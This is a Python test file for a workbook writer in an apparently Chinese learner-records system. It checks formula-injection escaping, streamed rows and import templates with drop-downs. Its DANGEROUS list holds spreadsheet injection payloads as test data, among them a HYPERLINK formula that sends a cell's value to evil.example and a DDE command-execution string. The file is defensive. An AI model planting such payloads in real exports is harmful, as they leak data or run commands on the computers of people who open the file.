"""The workbook writer: cells that can never start a formula, streamed sheets of rows, and the
import templates with their drop-downs, formats and instructions, written and read back."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from models import DetailSchema, ImportKind, TermKind
from resolvers.achievements.details import SCHEMAS, TermBook
from resolvers.workbooks.layouts import (
    COMMUNITY_ACCOUNTS,
    COMMUNITY_RESULTS,
    DEPOSITS,
    FIXED_LAYOUTS,
    LEARNER_ACCOUNTS,
    Column,
    ColumnKind,
    Layout,
    catalogue_layout,
)
from resolvers.workbooks.writer import (
    INSTRUCTIONS_SHEET,
    OPTIONS_SHEET,
    TEMPLATE_ROWS,
    safe_cell,
    sheet_title,
    template_workbook,
    write_rows,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "=1+1",
    "  =cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t普通文本",
    "-",
]
HARMLESS = ["经济统计学毕业证书(本科)", "320102199001010011", "13900000001", "a=b", "1-2", "", "#"]
LAST_ROW = TEMPLATE_ROWS + 1


def workbook(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def written(headers: list[str], rows: list[list], title: str = "导出") -> bytes:
    buffer = io.BytesIO()
    write_rows(buffer, title, headers, rows)
    return buffer.getvalue()


def sheet_xml(data: bytes, index: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode()


def validations(sheet: Worksheet) -> dict[str, DataValidation]:
    """The data validations of a sheet by the column they cover."""
    found: dict[str, DataValidation] = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            found[get_column_letter(cell_range.min_col)] = validation
    return found


def list_values(book: Workbook, formula: str) -> list[str]:
    """The values of a list validation: inline, or a range of the hidden options sheet."""
    if formula.startswith('"'):
        return formula.strip('"').split(",")
    sheet_name, _, cells = formula.partition("!")
    options = book[sheet_name.strip("'")]
    return [row[0].value for row in options[cells.replace("$", "")]]


# -- safe cells ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_start_a_formula_is_kept_as_text_behind_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_kept_as_they_are(text):
    assert safe_cell(text) == text


def test_numbers_dates_and_none_pass_through_and_other_values_become_text():
    moment = dt.datetime(2024, 1, 1, 20, 30, tzinfo=dt.UTC)
    assert safe_cell(None) is None
    assert safe_cell(-3) == -3
    assert safe_cell(Decimal("-4.50")) == Decimal("-4.50")
    assert safe_cell(-1.5) == -1.5
    assert safe_cell(True) is True
    assert safe_cell(dt.date(2022, 6, 30)) == dt.date(2022, 6, 30)
    assert safe_cell(moment) == dt.datetime(2024, 1, 2, 4, 30)  # Asia/Shanghai, no zone
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(dt.timedelta(days=1)) == "1 day, 0:00:00"


def test_characters_xml_cannot_hold_are_dropped_and_long_texts_cut():
    assert safe_cell("学\x00员\x07姓\x1b名\x0b") == "学员姓名"
    assert safe_cell("\x01=1+1") == "'=1+1"
    assert safe_cell("换行\n保留\t制表") == "换行\n保留\t制表"
    assert len(safe_cell("x" * 40000)) == 32767


def test_sheet_titles_lose_the_characters_excel_refuses():
    assert sheet_title("机构成果-[学历]:证书*?/\\") == "机构成果-学历证书"
    assert len(sheet_title("很" * 40)) == 31
    assert sheet_title("[]") == "Sheet1"


# -- streamed rows -------------------------------------------------------------------------------


def test_written_rows_come_back_as_text_never_as_formulas():
    data = written(["学员姓名", "备注"], [[text, "#N/A"] for text in DANGEROUS + HARMLESS])
    sheet = workbook(data).active
    for index, text in enumerate(DANGEROUS + HARMLESS, 2):
        cell = sheet.cell(index, 1)
        assert cell.data_type != "f"
        assert cell.data_type == "s" or (text == "" and cell.value is None)
        expected = safe_cell(text) or None
        assert cell.value == expected or (  # a CR the XML writer did not escape is read as LF
            expected is not None and cell.value == expected.replace("\r", "\n")
        )
        assert sheet.cell(index, 2).value == "#N/A"
        assert sheet.cell(index, 2).data_type == "s"
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml


def test_written_rows_keep_types_dates_formats_and_a_bold_frozen_header():
    moment = dt.datetime(2024, 1, 1, 20, 30, 5, tzinfo=dt.UTC)
    data = written(
        ["身份证号", "颁证日期", "入库时间", "学分", "数量", "空"],
        [["320102199001010011", dt.date(2022, 6, 30), moment, Decimal("4.50"), 3, None]],
        title="学员成果[2024]",
    )
    sheet = workbook(data).active
    assert sheet.title == "学员成果2024"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == [
        "身份证号",
        "颁证日期",
        "入库时间",
        "学分",
        "数量",
        "空",
    ]
    assert all(cell.font.b for cell in sheet[1])
    number, issued, stored, credits, count, empty = sheet[2]
    assert (number.value, number.data_type) == ("320102199001010011", "s")
    assert issued.value == dt.datetime(2022, 6, 30)
    assert issued.is_date and issued.number_format == "yyyy-mm-dd"
    assert stored.value == dt.datetime(2024, 1, 2, 4, 30, 5)
    assert stored.number_format == "yyyy-mm-dd hh:mm:ss"
    assert credits.value == 4.5 and credits.data_type == "n"
    assert count.value == 3
    assert empty.value is None
    assert sheet.column_dimensions["A"].width >= 12


def test_many_rows_are_streamed_from_a_generator():
    rows = ([f"学员{n}", n, dt.date(2022, 1, 1)] for n in range(5000))
    sheet = workbook(written(["姓名", "序号", "日期"], rows)).active
    assert sheet.max_row == 5001
    assert [cell.value for cell in sheet[5001]] == ["学员4999", 4999, dt.datetime(2022, 1, 1)]


# -- templates -----------------------------------------------------------------------------------


def choice_labels(column: Column, terms: TermBook) -> list[str]:
    if column.choices:
        return list(column.choices)
    assert column.term is not None, column.label
    return list(terms.choices(column.term).values())


def check_template(book: Workbook, layout: Layout, terms: TermBook) -> None:
    sheet = book.worksheets[0]
    assert sheet.title == sheet_title(layout.title)
    assert [cell.value for cell in sheet[1]] == layout.headers
    assert sheet.freeze_panes == "A2"
    found = validations(sheet)
    for index, column in enumerate(layout.columns, 1):
        letter = get_column_letter(index)
        header = sheet.cell(1, index)
        assert header.font.b
        assert (header.font.color is not None and header.font.color.rgb == "FFFF0000") == (
            column.required
        ), column.label
        assert sheet.column_dimensions[letter].width == column.width
        first, last = sheet.cell(2, index), sheet.cell(LAST_ROW, index)
        if column.kind == ColumnKind.CHOICE:
            expected = choice_labels(column, terms)
            validation = found[letter]
            assert validation.type == "list"
            assert str(validation.sqref) == f"{letter}2:{letter}{LAST_ROW}"
            assert list_values(book, validation.formula1) == expected
            assert validation.showErrorMessage
        elif column.kind == ColumnKind.DATE:
            assert found[letter].type == "date"
            assert first.number_format == last.number_format == "yyyy-mm-dd"
        elif column.kind == ColumnKind.COMPACT_DATE:
            assert found[letter].type == "textLength"
            assert first.number_format == last.number_format == "@"
        elif column.kind in (ColumnKind.TEXT, ColumnKind.MODULES):
            assert letter not in found
            assert first.number_format == last.number_format == "@"
    instructions = book.worksheets[1]
    assert instructions.title == INSTRUCTIONS_SHEET
    texts = [row[0] for row in instructions.iter_rows(values_only=True)]
    for note in layout.notes:
        assert any(note in (text or "") for text in texts), note
    rows = {row[0]: row for row in instructions.iter_rows(values_only=True) if row[1]}
    for column in layout.columns:
        label, required, requirement, allowed = rows[column.label]
        assert required == ("必填" if column.required else "选填")
        if column.hint:
            assert column.hint in requirement
        if column.kind == ColumnKind.CHOICE:
            expected = choice_labels(column, terms)
            assert allowed == "、".join(expected)


@pytest.mark.parametrize("kind", list(FIXED_LAYOUTS))
async def test_every_fixed_template_has_its_headers_drop_downs_formats_and_instructions(db, kind):
    terms = await TermBook.load()
    layout = FIXED_LAYOUTS[kind]
    book = workbook(template_workbook(layout, terms))
    check_template(book, layout, terms)
    assert book.active.title == book.worksheets[0].title


@pytest.mark.parametrize("schema", list(DetailSchema))
async def test_every_catalogue_template_follows_the_subtype_fields(db, schema):
    terms = await TermBook.load()
    layout = catalogue_layout(schema, f"测试子类型-{schema.value}")
    book = workbook(template_workbook(layout, terms))
    check_template(book, layout, terms)
    for spec in SCHEMAS[schema]:
        assert spec.label in layout.labels


async def test_the_community_templates_are_the_two_of_seed_002_column_for_column(db):
    terms = await TermBook.load()
    accounts = workbook(template_workbook(COMMUNITY_ACCOUNTS, terms)).worksheets[0]
    assert len(accounts[1]) == 15
    results = workbook(template_workbook(COMMUNITY_RESULTS, terms)).worksheets[0]
    assert [cell.value for cell in results[1]] == [
        "协议单位用户号",
        "*协议单位名称",
        "证件号码",
        "*学习成果名称",
        "*成果取得时间",
    ]
    community = validations(accounts)
    education = next(c for c in COMMUNITY_ACCOUNTS.columns if c.key == "education_category")
    letter = get_column_letter(COMMUNITY_ACCOUNTS.columns.index(education) + 1)
    assert community[letter].formula1 == '"非正式教育"'


def long_terms() -> TermBook:
    return TermBook(
        {
            TermKind.LEVEL: {f"l{n}": f"很长的层次名称第{n}号" for n in range(40)},
            TermKind.AWARD_LEVEL: {"a": "国家级", "b": "省级,市级", "c": '带"引号'},
        }
    )


def test_long_lists_and_lists_with_commas_go_to_a_hidden_options_sheet():
    layout = Layout(
        ImportKind.CATALOGUE_ENTRIES,
        "选项测试",
        (
            Column("level", "层次", ColumnKind.CHOICE, term=TermKind.LEVEL),
            Column("award", "奖励级别", ColumnKind.CHOICE, False, term=TermKind.AWARD_LEVEL),
            Column("gender", "性别", ColumnKind.CHOICE, choices=("男", "女")),
            Column("empty", "学科门类", ColumnKind.CHOICE, False, term=TermKind.DISCIPLINE),
        ),
        ("说明一",),
    )
    terms = long_terms()
    book = workbook(template_workbook(layout, terms))
    assert book.sheetnames == ["选项测试", INSTRUCTIONS_SHEET, OPTIONS_SHEET]
    assert book[OPTIONS_SHEET].sheet_state == "hidden"
    found = validations(book.worksheets[0])
    assert found["A"].formula1 == f"'{OPTIONS_SHEET}'!$A$1:$A$40"
    assert found["B"].formula1 == f"'{OPTIONS_SHEET}'!$B$1:$B$3"
    assert found["C"].formula1 == '"男,女"'
    assert "D" not in found  # no active terms: no drop-down, and the instructions say so
    assert list_values(book, found["A"].formula1)[-1] == "很长的层次名称第39号"
    assert list_values(book, found["B"].formula1) == ["国家级", "省级,市级", '带"引号']
    rows = {row[0]: row for row in book[INSTRUCTIONS_SHEET].iter_rows(values_only=True)}
    assert "暂无可选值" in rows["学科门类"][2]


def test_term_labels_that_look_like_formulas_stay_text_in_the_template():
    layout = Layout(
        ImportKind.CATALOGUE_ENTRIES,
        "公式测试",
        (Column("level", "层次", ColumnKind.CHOICE, term=TermKind.LEVEL),),
    )
    terms = TermBook({TermKind.LEVEL: {f"l{n}": f'=HYPERLINK("x{n}")' for n in range(30)}})
    data = template_workbook(layout, terms)
    book = workbook(data)
    options = book[OPTIONS_SHEET]
    assert all(cell.data_type == "s" for (cell,) in options.iter_rows())
    assert options["A1"].value == '\'=HYPERLINK("x0")'
    for index in (1, 2, 3):
        xml = sheet_xml(data, index)
        assert "<f>" not in xml and "<f " not in xml


def test_templates_are_written_for_every_layout_without_a_database():
    terms = TermBook({})
    for layout in (LEARNER_ACCOUNTS, DEPOSITS):
        book = workbook(template_workbook(layout, terms))
        id_type = validations(book.worksheets[0])["C" if layout is LEARNER_ACCOUNTS else "E"]
        assert list_values(book, id_type.formula1) == [
            "居民身份证",
            "护照",
            "港澳居民来往内地通行证",
            "台湾居民来往大陆通行证",
        ]
